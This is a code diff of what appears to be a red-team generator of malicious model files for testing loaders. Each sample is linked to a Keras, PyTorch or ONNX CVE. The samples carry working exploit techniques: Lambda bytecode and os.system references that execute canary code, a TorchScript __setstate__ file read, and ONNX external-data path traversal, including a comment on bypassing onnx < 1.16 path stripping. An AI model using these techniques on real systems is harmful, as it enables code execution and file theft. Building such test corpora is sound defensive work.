@@ -50,7 +50,9 @@ def _marshal_fn(c: Canary) -> dict[str, object]:
     return {"class_name": "__lambda__", "config": {"code": raw, "defaults": None, "closure": None}}
 
 
-@sample("keras-lambda-bytecode", "cve-2024-3660-keras-lambda", loader="keras_unsafe", name="model.keras")
+@sample(
+    "keras-lambda-bytecode", "cve-2024-3660-keras-lambda", loader="keras_unsafe", name="model.keras"
+)
 def _lambda(out: Path, c: Canary) -> None:
     _keras_write(out, lambda lam: lam["config"].update(function=_marshal_fn(c)))
 
@@ -59,7 +61,13 @@ def _fn_ref(module: str, name: str) -> dict[str, object]:
     return {"module": module, "class_name": "function", "config": name, "registered_name": name}
 
 
-@sample("keras-module-function-os-system", "cve-2025-1550-keras-module", loader="keras", env="keras38", name="model.keras")
+@sample(
+    "keras-module-function-os-system",
+    "cve-2025-1550-keras-module",
+    loader="keras",
+    env="keras38",
+    name="model.keras",
+)
 def _module_fn(out: Path, c: Canary) -> None:
     def edit(lam: dict) -> None:  # type: ignore[type-arg]
         lam["config"]["function"] = _fn_ref("os", "system")
@@ -68,7 +76,13 @@ def _module_fn(out: Path, c: Canary) -> None:
     _keras_write(out, edit)
 
 
-@sample("keras-get-file-gadget", "cve-2025-8747-keras-gadget", loader="keras", env="keras310", name="model.keras")
+@sample(
+    "keras-get-file-gadget",
+    "cve-2025-8747-keras-gadget",
+    loader="keras",
+    env="keras310",
+    name="model.keras",
+)
 def _get_file(out: Path, c: Canary) -> None:
     src = out.with_name("origin.txt")
     src.write_text("downloaded by the model\n")
@@ -85,13 +99,23 @@ def _get_file(out: Path, c: Canary) -> None:
     _keras_write(out, edit)
 
 
-@sample("keras-h5-lambda-safe-mode", "cve-2025-9905-keras-h5", loader="keras", env="keras311", name="model.h5")
+@sample(
+    "keras-h5-lambda-safe-mode",
+    "cve-2025-9905-keras-h5",
+    loader="keras",
+    env="keras311",
+    name="model.h5",
+)
 def _h5(out: Path, c: Canary) -> None:
     os.environ.setdefault("KERAS_BACKEND", "torch")
     import keras
 
     ns: dict[str, object] = {}
-    exec(f"def f(t):\n    import os\n    if not os.environ.get('REDTEAM_GENERATING'):\n        {c.py}\n    return t\n", ns)
+    exec(
+        "def f(t):\n    import os\n    if not os.environ.get('REDTEAM_GENERATING'):\n"
+        f"        {c.py}\n    return t\n",
+        ns,
+    )
     inp = keras.Input(shape=(1,), name="x")
     keras.Model(inp, keras.layers.Lambda(ns["f"], name="lam")(inp)).save(out)
 
@@ -109,13 +133,15 @@ def _torchscript_module(c: Canary):  # type: ignore[no-untyped-def]
             return x
 
         @torch.jit.export
-        def __getstate__(self) -> str:
-            return self.p
+        def __getstate__(self) -> tuple[str, str]:
+            return (self.p, self.path)
 
         @torch.jit.export
-        def __setstate__(self, state: str) -> None:
-            self.p = state
-            if state == "armed":
+        def __setstate__(self, state: tuple[str, str]) -> None:
+            self.training = False
+            self.p = state[0]
+            self.path = state[1]
+            if self.p == "armed":
                 torch.from_file(self.path, shared=True, size=8)
 
     m = torch.jit.script(M())
@@ -123,21 +149,27 @@ def _torchscript_module(c: Canary):  # type: ignore[no-untyped-def]
     return m
 
 
-@sample("torchscript-setstate-from-file", "torchscript-code-exec", loader="torch_jit", name="model.pt")
+@sample(
+    "torchscript-setstate-from-file", "torchscript-code-exec", loader="torch_jit", name="model.pt"
+)
 def _ts(out: Path, c: Canary) -> None:
     import torch
 
     torch.jit.save(_torchscript_module(c), str(out))
 
 
-@sample("torchscript-via-torch-load", "cve-2025-32434-torch-load-jit", loader="torch", name="model.pt")
+@sample(
+    "torchscript-via-torch-load", "cve-2025-32434-torch-load-jit", loader="torch", name="model.pt"
+)
 def _ts_load(out: Path, c: Canary) -> None:
     import torch
 
     torch.jit.save(_torchscript_module(c), str(out))
 
 
-@sample("torch-package-module-source", "torch-package-code", loader="torch_package", name="model.pt")
+@sample(
+    "torch-package-module-source", "torch-package-code", loader="torch_package", name="model.pt"
+)
 def _package(out: Path, c: Canary) -> None:
     import sys
     import tempfile
@@ -151,7 +183,7 @@ def _package(out: Path, c: Canary) -> None:
     with tempfile.TemporaryDirectory() as tmp:
         Path(tmp, "tiny_head.py").write_text(code)
         sys.path.insert(0, tmp)
-        import tiny_head  # noqa: PLC0415
+        import tiny_head
 
         with PackageExporter(str(out)) as exp:
             exp.save_source_string("tiny_head", code)
@@ -161,7 +193,6 @@ def _package(out: Path, c: Canary) -> None:
 
 
 def _onnx_external(out: Path, location: str) -> None:
-    import onnx
     from onnx import TensorProto, helper
 
     t = helper.make_tensor("w", TensorProto.UINT8, [len(SECRET)], b"\x00" * len(SECRET), raw=True)
@@ -183,18 +214,45 @@ def _secret(c: Canary) -> Path:
     return p
 
 
-@sample("onnx-external-traversal", "cve-2024-27318-onnx-traversal", loader="onnx", env="onnx115", name="model.onnx")
+@sample(
+    "onnx-external-traversal",
+    "cve-2024-27318-onnx-traversal",
+    loader="onnx",
+    env="onnx115",
+    name="model.onnx",
+)
 def _onnx_rel(out: Path, c: Canary) -> None:
+    # onnx < 1.16 strips leading "../" and "/" only: a traversal after a first folder passes
     rel = os.path.relpath(_secret(c), out.parent)
-    _onnx_external(out, rel)
+    _onnx_external(out, "weights/../" + rel)
 
 
-@sample("onnx-external-absolute", "cve-2024-27318-onnx-traversal", loader="onnx", env="onnx115", name="model.onnx")
+@sample(
+    "onnx-external-root-walk",
+    "cve-2024-27318-onnx-traversal",
+    loader="onnx",
+    env="onnx115",
+    name="model.onnx",
+)
 def _onnx_abs(out: Path, c: Canary) -> None:
-    _onnx_external(out, str(_secret(c)))
+    up = "../" * len(out.resolve().parent.parts)
+    _onnx_external(out, "weights/" + up + str(_secret(c)).lstrip("/"))
 
 
-@sample("onnx-external-symlink", "onnx-external-symlink", loader="onnx", name="model")
+@sample(
+    "onnx-external-leading-dotdot",
+    "cve-2024-27318-onnx-traversal",
+    loader="onnx",
+    env="onnx115",
+    name="model.onnx",
+)
+def _onnx_plain(out: Path, c: Canary) -> None:
+    _onnx_external(out, os.path.relpath(_secret(c), out.parent))
+
+
+@sample(
+    "onnx-external-symlink", "onnx-external-symlink", loader="onnx", env="onnx115", name="model"
+)
 def _onnx_link(out: Path, c: Canary) -> None:
     out.mkdir()
     (out / "weights.bin").symlink_to(_secret(c))
